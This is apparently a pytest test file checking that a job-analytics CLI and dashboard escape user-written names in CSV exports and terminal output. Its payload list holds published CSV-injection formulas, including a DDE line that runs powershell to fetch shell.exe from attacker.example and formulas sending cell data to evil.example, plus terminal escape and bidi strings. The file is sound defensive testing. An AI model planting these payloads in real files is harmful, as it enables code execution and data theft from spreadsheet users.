"""Output stays inert: what users wrote (job names, users, accounts, partitions, hosts) is data,
never a spreadsheet formula or a terminal command, through every CSV writer and every
human-readable output of the CLI.

CSV: published CSV-injection payloads (OWASP "CSV Injection", PayloadsAllTheThings "CSV
Injection"), bare and behind CR, LF, tab, space, NUL, ESC and bidi prefixes, go through
`jobsight flags|usage --format csv`, the CSV report and the dashboard grids' "Download CSV" (AG
Grid's export, in headless Chromium, with the dashboard's guard jobsightCsvCell); read back with
Python's csv module, every row has the header's number of cells and no text cell starts (after
leading spaces and controls) with a formula character, while numbers stay numbers. The guard in the
browser gives exactly what analytics/render.csv_safe gives (run under Node).

Terminal: a user named with ESC, a bidi override and a NUL, through `flags`, `usage` and `job` in
every format, to a pipe and to a terminal (a real pseudo-terminal, or stdout.isatty patched):
no raw control or bidi character reaches the terminal; a pipe gets the exact data in JSON and CSV.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, jobsight_cmd, require_service
from hypothesis import given, settings
from hypothesis import strategies as st

from jobsight.analytics import render
from jobsight.analytics.cli import main as jobsight
from jobsight.analytics.config import parse_config
from jobsight.analytics.store import results as store
from jobsight.analytics.store.database import Database

GiB = 2**30
T0 = dt.datetime(2026, 11, 16, 10, 0, 0)          # a Monday
WEEK = ["--since", "2026-11-16", "--until", "2026-11-22"]

# OWASP CSV Injection and PayloadsAllTheThings "CSV Injection" examples
PUBLISHED = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    '=WEBSERVICE("http://evil.example/?x="&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil")',
]
PREFIXES = ["", "\r", "\n", "\t", " ", "  ", "\x00", "\x1b", "\u202e", "\r\n"]
PAYLOADS = PUBLISHED + [p + PUBLISHED[i % len(PUBLISHED)] for i, p in enumerate(PREFIXES) if p]
ESC_USER = "\x1b[2Jroot\u202egnp.exe\x00x"        # clears the screen, reverses the text, NUL
# what no terminal may receive raw: C0 except the output's own newline, DEL, C1, bidi controls
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SPREADSHEET_SKIPS = re.compile("^[\\s\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*")


def _add_job(con, job_id: str, **kw) -> None:
    row = dict(cluster="c1", job_id=job_id, job_id_raw=job_id, state="COMPLETED", source="test", start_time=T0,
               elapsed_s=7200, timelimit_s=4 * 3600, ncpus=4, billing=4, cpu_time_s=7200,
               mem_alloc_bytes=8 * GiB, mem_peak_bytes=1 * GiB)
    row.update(kw)
    row["end_time"] = row["start_time"] + dt.timedelta(seconds=row["elapsed_s"])
    cols = ", ".join(f'"{c}"' for c in row)
    con.execute(f"INSERT INTO job ({cols}) VALUES ({', '.join('?' * len(row))})", list(row.values()))


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    """Job i+1: user, account, partition and name are payloads; every job is flagged (CPU 25 %).
    Job 100 belongs to ESC_USER and has GPU samples from a host and a device with hostile names."""
    path = tmp_path_factory.mktemp("inert") / "jobs.duckdb"
    con = Database.open(path, parse_config({}))
    n = len(PAYLOADS)
    for i, p in enumerate(PAYLOADS):
        _add_job(con, str(i + 1), user=p, account=PAYLOADS[(i + 7) % n], partition=PAYLOADS[(i + 13) % n],
                 job_name=p)
    _add_job(con, "100", user=ESC_USER, account=ESC_USER, partition="gpu", job_name=ESC_USER, ngpus=1,
             gpu_type="a100\x1b]0;owned\x07", qos=ESC_USER)
    for k in range(3):
        con.execute("INSERT INTO sample (cluster, job_id_raw, host, device, time, util_pct, mem_used_bytes, "
                    "mem_total_bytes, gpu_index, source) VALUES ('c1', '100', ?, ?, ?, 10, 1e9, 4e10, 0, 'sidecar')",
                    [ESC_USER, "GPU-\u202eevil", T0 + dt.timedelta(seconds=10 * k)])
    store.refresh(con)
    con.close()
    return path


def _run(args: list, capsys) -> str:
    capsys.readouterr()
    rc = jobsight([str(a) for a in args])
    out = capsys.readouterr().out
    assert rc == 0, out
    return out


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell[SPREADSHEET_SKIPS.match(cell).end():].startswith(tuple("=+-@"))


def _check_csv(text: str, numeric: set[str], options: set[str] = frozenset()) -> list[dict]:
    """``options``: columns of jobsight's own text, whose cells may start with an option (--mem=3G)."""
    rows = _rows(text)
    header, body = rows[0], rows[1:]
    assert body, "no rows"
    assert all(len(r) == len(header) for r in body), [r for r in body if len(r) != len(header)][:2]
    out = []
    for r in body:
        rec = dict(zip(header, r))
        for col, value in rec.items():
            if col in numeric and value:
                float(value)                                   # a number, as written
            elif col in options and re.match("--[a-z]", value):
                assert not any(p.strip() in value for p in PAYLOADS), (col, value)   # nothing a user wrote
            else:
                assert not _is_formula(value), (col, value)
        out.append(rec)
    return out


# -- CSV -------------------------------------------------------------------------------------------

def test_writer_guards_text_quotes_line_breaks_and_keeps_numbers():
    text = render.to_csv([{"name": "\r=2+2", "n": -0.5, "s": "-0.5", "t": "  =1+1", "u": "\x00=cmd", "v": "ok",
                           "w": "a\nb"}], ["name", "n", "s", "t", "u", "v", "w"])
    assert text == "name,n,s,t,u,v,w\n\"'\r=2+2\",-0.5,'-0.5,'  =1+1,'\x00=cmd,ok,\"a\nb\"\n"
    assert _rows(text)[1] == ["'\r=2+2", "-0.5", "'-0.5", "'  =1+1", "'\x00=cmd", "ok", "a\nb"]
    assert render.to_csv([{"x": None}], ["x"]) == 'x\n""\n'          # one empty cell, not an empty line
    assert render.csv_safe("\u202e=1+1") == "'\u202e=1+1" and render.csv_safe("a=1") == "a=1"
    assert render.csv_safe(-3) == -3 and render.csv_safe("") == ""
    # jobsight's own advice keeps its leading option; nothing else that starts with '-' does
    assert render.csv_safe("--mem=3G", option=True) == "--mem=3G" and render.csv_safe("--mem=3G") == "'--mem=3G"
    for text in ("-2+3", "--1+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=1+1", " --mem=3G"):
        assert render.csv_safe(text, option=True) == "'" + text
    assert render.csv_of(["a", "b"], [("--x=1", "--x=1")], ["a", "b"], options={"b"}) == "a,b\n'--x=1,--x=1\n"


# text made of the characters every rule above is about, and the values a query returns
_TEXT = st.one_of(st.sampled_from(PAYLOADS + ["", "a", "a,b", "é", "-1", " a", "a\u202e"]),
                  st.text(alphabet=st.one_of(st.sampled_from(list("ab,=+-@\"' \t\r\n\x00\x1b\x85\u202e\u200b\ufeffé")),
                                             st.characters()), max_size=8))
_VALUE = st.one_of(st.none(), _TEXT, st.integers(-10**6, 10**6), st.floats(allow_nan=True), st.booleans(),
                   st.datetimes(min_value=dt.datetime(1970, 1, 1), max_value=dt.datetime(2100, 1, 1)))


@settings(max_examples=300, deadline=None)
@given(kinds=st.lists(st.sampled_from(["text", "number", "any"]), min_size=1, max_size=4), data=st.data(),
       terminal=st.booleans())
def test_column_writers_equal_the_per_cell_rules(kinds, data, terminal):
    """table_of and csv_of, which write a column of text or numbers without a call per cell, give
    exactly what cell() and csv_line() give cell by cell."""
    strategy = {"text": st.one_of(st.none(), _TEXT), "number": st.one_of(st.none(), st.integers(), st.floats()),
                "any": _VALUE}
    names = [f"c{i}" for i in range(len(kinds))]
    rows = data.draw(st.lists(st.tuples(*(strategy[k] for k in kinds)), max_size=6))
    assert render.csv_of(names, rows, names, terminal) == (
        render.csv_line(names, terminal) + "".join(render.csv_line(list(r), terminal) for r in rows))
    # the table cell by cell: numbers (and None among them) right-aligned, the rest (and a column
    # of nothing but None) left-aligned
    body = [[render.cell(v) for v in r] for r in rows]
    widths = [max([len(n)] + [len(b[i]) for b in body]) for i, n in enumerate(names)]
    right = [any(v is not None for v in col) and all(v is None or type(v) in (int, float) for v in col)
             for col in zip(*rows)] or [False] * len(names)

    def line(cells):
        return "  ".join(c.rjust(w) if r else c.ljust(w) for c, w, r in zip(cells, widths, right)).rstrip()
    assert render.table_of(names, rows, names) == "\n".join(
        [line(names), line(["-" * w for w in widths])] + [line(b) for b in body])


def test_flags_csv_neutralises_every_payload(db, capsys):
    recs = _check_csv(_run(["flags", "--db", db, "--format", "csv", "--limit", "0"], capsys),
                      {"sbu", "wasted_sbu", "savings_sbu"}, options={"advice"})
    assert any(r["advice"].startswith("--") for r in recs)     # advice as written: no ' before --cpus-per-task
    users = {r["user"] for r in recs}
    # every payload came out, guarded, and otherwise exactly (a pipe keeps the data)
    assert {"'" + p for p in PAYLOADS} <= users
    assert {r["account"] for r in recs} >= {"'" + p for p in PAYLOADS}
    assert ESC_USER in users                                 # to a pipe: the data as it is


@pytest.mark.parametrize("by", ["user", "account", "partition"])
def test_usage_csv_neutralises_every_payload(db, capsys, by):
    recs = _check_csv(_run(["usage", "--db", db, "--format", "csv", "--by", by, *WEEK], capsys),
                      {"jobs", "sbu", "wasted_sbu", "wasted_pct", "core_hours", "gpu_hours"})
    assert {"'" + p for p in PAYLOADS} <= {r[by] for r in recs}
    assert all(float(r["sbu"]) == 8.0 for r in recs if r[by].lstrip("'") in PAYLOADS)


def test_report_csv_neutralises_every_payload(db, tmp_path, capsys):
    out = tmp_path / "rep"
    _run(["report", "--db", db, *WEEK, "--for", "admin", "--for", "all-users", "--for", "all-accounts",
          "--format", "csv", "--out", out], capsys)
    files = sorted(out.rglob("*.csv"))
    assert len(files) >= len(PAYLOADS)
    from jobsight.analytics.reports.csvout import COLUMNS
    numeric = set(COLUMNS[COLUMNS.index("jobs"):COLUMNS.index("flag_codes")]) | {"rank", "budget_sbu", "burned_sbu",
                                                                                   "remaining_sbu"}
    names = set()
    for f in files:
        recs = _check_csv(f.read_bytes().decode("utf-8"), numeric)      # no newline translation
        names |= {r["job_name"] for r in recs} | {r["user"] for r in recs} | {r["label"] for r in recs}
    assert {"'" + p for p in PAYLOADS} <= names


# -- the dashboard grids' CSV download ----------------------------------------------------------------

GRID_JS = ROOT / "dashboard" / "assets" / "dashAgGridFunctions.js"


def _browser_guard(values: list[str]) -> list[str]:
    """jobsightCsvCell (the grids' CSV guard) on each value, run by Node as the browser runs it."""
    require_service(shutil.which("node") is not None, "node not installed (apt-get install nodejs)")
    script = ("const window = {}; eval(require('fs').readFileSync(process.argv[1], 'utf8'));"
              "const values = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(values.map(v => window.dashAgGridFunctions.jobsightCsvCell({value: v}))));")
    out = subprocess.run(["node", "-e", script, str(GRID_JS)], input=json.dumps(values), capture_output=True,
                         text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


@settings(max_examples=5, deadline=None)
@given(st.lists(_TEXT, min_size=50, max_size=200))
def test_grid_csv_guard_equals_the_writers(values):
    """The guard of the dashboard's CSV download and the CLI's writers guard the same cells the same way."""
    values = PAYLOADS + [p.strip() for p in PAYLOADS] + ["-1.5", "", "a=1", "\u3000=1", "\u2028-x", "\x85@x"] + values
    assert _browser_guard(values) == [render.csv_safe(v) for v in values]


@pytest.fixture
def browser(tmp_path):
    from test_dashboard_browser import chromium
    with chromium(tmp_path) as b:
        yield b


@pytest.fixture(scope="module")
def inert_url(db):
    from test_dashboard_browser import _serve
    yield from _serve(db)


@pytest.mark.browser
@pytest.mark.parametrize("path, grid, file, numeric, text", [
    ("/flagged", "fl-table", "flagged-jobs.csv", {"Wasted", "SBU", "Savings"}, ("User", "Project", "Partition", "Job name")),
    ("/users", "ut-table", "users.csv", {"Jobs", "SBU", "Wasted", "Advice saves", "GPU-hours", "Core-hours", "CPU eff",
                                         "GPU util", "Mem eff", "Time eff", "Flagged jobs"}, ("Name",)),
])
def test_grid_csv_download_neutralises_every_payload(inert_url, browser, path, grid, file, numeric, text):
    """The grid's "Download CSV" in headless Chromium: every payload comes out guarded, and
    otherwise exactly; numbers as numbers."""
    from test_dashboard_browser import downloaded, visit, wait_for
    visit(browser, inert_url + path)
    wait_for(lambda: browser.find_elements(f"#{grid} .ag-row"), what="the grid's rows")
    browser.find_element(f"#{grid}-csv").click()
    recs = _check_csv(downloaded(Path(browser.download_path), file), numeric)
    for col in text:
        assert {"'" + p for p in PAYLOADS} <= {r[col] for r in recs}, col
    assert browser.get_logs() == []


# -- terminal --------------------------------------------------------------------------------------

def _tty(monkeypatch):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)


@pytest.mark.parametrize("args", [["flags", "--wide"], ["flags", "--format", "csv"], ["usage", "--by", "user", *WEEK],
                                  ["usage", "--by", "account", "--format", "csv", *WEEK], ["job", "100"],
                                  ["job", "100", "--format", "json"], ["flags", "--format", "json"]])
def test_no_raw_control_character_reaches_a_terminal(db, capsys, monkeypatch, args):
    capsys.readouterr()
    _tty(monkeypatch)
    out = _run([args[0], "--db", db, *args[1:]], capsys)
    assert not RAW.search(out), RAW.search(out)
    if "json" in args:
        assert ESC_USER in json.dumps(json.loads(out), ensure_ascii=False) or "\\u0000" in out
    else:
        assert "\\x1b[2Jroot\\u202egnp.exe\\x00x" in out           # shown, as escapes


def test_flags_table_fits_120_columns_and_stays_escaped(db, capsys, monkeypatch):
    _tty(monkeypatch)
    out = _run(["flags", "--db", db, "--limit", "0"], capsys)
    assert not RAW.search(out) and max(len(line) for line in out.splitlines()) <= 120
    assert "\\x1b[2Jroot" in out                           # the name's start, escaped, before any cut
    wide = _run(["flags", "--db", db, "--limit", "0", "--wide"], capsys)
    assert not RAW.search(wide) and "…" not in wide and max(len(line) for line in wide.splitlines()) > 120


def test_job_text_escapes_every_field(db, capsys):
    out = _run(["job", "--db", db, "100"], capsys)            # text is for people, terminal or not
    assert not RAW.search(out)
    assert "a100\\x1b]0;owned\\x07" in out and "GPU-\\u202eevil" in out
    assert out.count("\\x1b[2Jroot") >= 4                    # name, user, account, QOS, host


def test_json_to_a_pipe_is_the_exact_data_and_terminal_safe(db, capsys):
    out = _run(["flags", "--db", db, "--format", "json"], capsys)
    assert not RAW.search(out)                                  # \u escapes, not the characters
    assert ESC_USER in {r["user"] for r in json.loads(out)}
    job = json.loads(_run(["job", "--db", db, "100", "--format", "json"], capsys))
    assert job["gpus"][0]["host"] == ESC_USER and job["gpus"][0]["device"] == "GPU-\u202eevil"


def test_csv_to_a_real_terminal_is_escaped(db):
    """`jobsight flags --format csv` on a pseudo-terminal: ESC and friends arrive as text."""
    master, slave = pty.openpty()
    env = {**os.environ, "COLUMNS": "200"}
    proc = subprocess.Popen([*jobsight_cmd(), "flags", "--db", str(db), "--format", "csv"],
                            stdout=slave, stderr=subprocess.PIPE, cwd=ROOT, env=env)
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            data = os.read(master, 65536)
        except OSError:                      # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    assert proc.wait(timeout=60) == 0, proc.stderr.read()
    proc.stderr.close()
    out = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")     # the terminal's own newline handling
    assert "\\x1b[2Jroot\\u202egnp.exe\\x00x" in out
    assert not RAW.search(out), RAW.search(out)


def test_reports_text_and_markdown_have_no_raw_controls(db, tmp_path, capsys):
    from jobsight.analytics.reports.data import gather
    from jobsight.analytics.reports.markdown import render_markdown
    from jobsight.analytics.reports.period import resolve
    from jobsight.analytics.reports.settings import from_config
    from jobsight.analytics.reports.text import render_text
    con = Database.open(db, parse_config({}))
    cfg = con.config
    try:
        ds = gather(con, resolve(None, "2026-11-16", "2026-11-22"), from_config(cfg))
    finally:
        con.close()
    for rep in (ds.build("admin", "cluster"), ds.build("user", ESC_USER), ds.build("account", ESC_USER)):
        for text in (render_text(rep), render_markdown(rep)):
            assert not RAW.search(text), (rep.stem, RAW.search(text))
            assert "\\x1b" in text and "2Jroot" in text              # the user's name, escaped
